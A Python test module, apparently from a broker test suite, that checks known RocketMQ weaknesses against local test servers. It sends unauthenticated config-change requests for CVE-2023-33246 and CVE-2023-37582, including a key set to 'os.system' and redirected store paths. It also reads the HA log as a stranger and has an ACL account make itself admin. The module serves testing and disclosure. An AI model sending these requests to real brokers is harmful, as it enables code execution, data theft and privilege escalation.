"""Who may do what."""

from __future__ import annotations

import time

from rmq_ha.base.remoting.signing import Credentials, sign
from rmq_ha.base.wire.codes import RequestCode
from rmq_ha.base.wire.command import RemotingCommand
from rmq_ha.client.lookup.requests import send_request
from tests.interop.accounts import FILE, USER
from tests.interop.rig import Server
from tests.interop.wire import Refused, Wire
from tests.museum.exhibit import Fact, Room
from tests.museum.raw_peers import RawSlave
from tests.museum.sides import Side, create, send

from .connections import masters_in_route

room = Room("Who may do what")
MASTER = "master-async.conf"
ACCOUNT = Credentials(*USER.split())
BEYOND = {
    "rocketmqHome": "/tmp/elsewhere",
    "storePathRootDir": "/tmp/elsewhere",
    "storePathCommitLog": "/tmp/elsewhere",
    "namesrvAddr": "127.0.0.1:1",
    "brokerRole": "SLAVE",
    "listenPort": "1",
    "aclEnable": "false",
    "messageStorePlugIn": "os.system",
}
"""Keys by which who sets them gets code, files or messages."""


@room.exhibit("A53: RMQ#1893", kept="the port is plain unless `tls.ha.*` is set, which ends it")
def log_for_everyone(side: Side) -> Fact:
    """Anybody who reaches the HA port reads the whole log, with or without ACL."""
    server = guarded(side)
    with Wire(server.address) as wire:
        request = send_request("p", "Pub", 0, b"secret" * 100, "", int(time.time() * 1000))
        wire.exchange([sign(request, ACCOUNT)])
    with RawSlave(server) as stranger:
        stranger.report(0)
        stranger.read(1.5)
        return Fact(stranger.received > 0, f"{stranger.received} bytes of the log for a stranger")


def guarded(side: Side) -> Server:
    """A broker with ACL."""
    folder = side.rig.directory / "guarded" / "conf"  # where Java looks for it
    folder.mkdir(parents=True)
    (folder / "plain_acl.yml").write_text(FILE)
    (folder / "plain_acl.yml").chmod(0o600)
    return side.start(MASTER, "guarded", aclEnable="true", aclDirectory=folder)


@room.exhibit("found while specifying 4.9.7")
def account_makes_itself_admin(side: Side) -> Fact:
    """With ACL, any account may change accounts, and so make itself an admin."""
    server = guarded(side)
    change = RemotingCommand(
        RequestCode.UPDATE_AND_CREATE_ACL_CONFIG,
        {"accessKey": ACCOUNT.access_key, "secretKey": ACCOUNT.secret_key, "admin": "true"},
    )
    with Wire(server.address) as wire:
        before = topic_made_by_the_account(wire)
        wire.exchange([sign(change, ACCOUNT)])
        deadline = time.monotonic() + 7
        while (after := topic_made_by_the_account(wire)) and time.monotonic() < deadline:
            time.sleep(0.2)
    told = f"an admin's command: code {before} before, {after} after it"
    return Fact(before != 0 and after == 0, told)


def topic_made_by_the_account(wire: Wire) -> int:
    """What an admin's command of the account is answered."""
    ext = {
        "topic": "New", "defaultTopic": "TBW102", "readQueueNums": "1", "writeQueueNums": "1",
        "perm": "6", "topicFilterType": "SINGLE_TAG", "topicSysFlag": "0", "order": "false",
    }  # fmt: skip
    request = RemotingCommand(RequestCode.UPDATE_AND_CREATE_TOPIC, ext)
    (answer,) = wire.exchange([sign(request, ACCOUNT)])
    return answer.code


@room.exhibit("A55: CVE-2023-33246, CVE-2023-37582", quick_java=True)
def keys_set_from_afar(side: Side) -> Fact:
    """Anybody who reaches the port sets keys that run code or read files and messages."""
    server = side.broker(MASTER)
    taken = []
    for key, value in BEYOND.items():
        with Wire(server.address) as wire:
            request = RemotingCommand(
                RequestCode.UPDATE_BROKER_CONFIG, {}, f"{key}={value}".encode()
            )
            (answer,) = wire.exchange([request])
        if answer.code == 0:
            taken.append(key)
    told = ", ".join(taken) or "none"
    return Fact(bool(taken), f"{len(taken)} of {len(BEYOND)} keys taken: {told}")


@room.exhibit("A55: CVE-2023-37582")
def files_of_the_name_server(side: Side) -> Fact:
    """Anybody who reaches a name server decides where it writes its files."""
    address = side.namesrv()
    taken = []
    for key in ("configStorePath", "kvConfigPath", "rocketmqHome"):
        with Wire(address) as wire:
            body = f"{key}={side.rig.directory}/elsewhere".encode()
            (answer,) = wire.exchange(
                [RemotingCommand(RequestCode.UPDATE_NAMESRV_CONFIG, {}, body)]
            )
        if answer.code == 0:
            taken.append(key)
    return Fact(bool(taken), f"{len(taken)} of 3 keys taken: {', '.join(taken) or 'none'}")


def permission(namesrv: str, topic: str) -> int:
    """What clients are told of a topic."""
    with Wire(namesrv) as wire:
        try:
            body = (wire.call(RequestCode.GET_ROUTEINFO_BY_TOPIC, topic=topic).body or b"").decode()
        except Refused:
            return -1
    return int(body.partition('"perm":')[2][0])


@room.exhibit("A59: RMQ#313, RMQ#1377, RMQ#4109")
def wiped_permission_comes_back(side: Side) -> Fact:
    """A change of any topic on a broker undoes wipeWritePerm."""
    namesrv = side.namesrv()
    server = side.broker(MASTER, namesrv=namesrv)
    create(server, "T")
    side.until(lambda: masters_in_route(namesrv, "T"), 20, "the route")
    with Wire(namesrv) as wire:
        wire.call(RequestCode.WIPE_WRITE_PERM_OF_BROKER, brokerName="broker-a")
    wiped = permission(namesrv, "T")
    create(server, "Other")
    create(server, "T")
    side.until(lambda: masters_in_route(namesrv, "Other"), 20, "the route")
    time.sleep(0.5)
    after = permission(namesrv, "T")
    return Fact(after != wiped, f"perm {wiped} when wiped, {after} after a topic was changed")


@room.exhibit("A59: RMQ#4109", kept="wiping hides the broker; `brokerPermission=4` stops writes")
def wiped_and_still_written(side: Side) -> Fact:
    """wipeWritePerm does not stop writes: a producer that knows the broker goes on."""
    namesrv = side.namesrv()
    server = side.broker(MASTER, namesrv=namesrv)
    create(server, "T")
    side.until(lambda: masters_in_route(namesrv, "T"), 20, "the route")
    with Wire(namesrv) as wire:
        wire.call(RequestCode.WIPE_WRITE_PERM_OF_BROKER, brokerName="broker-a")
    (answer,) = send(server, "T", 1)
    return Fact(answer.code == 0, f"code {answer.code} for a send after it")
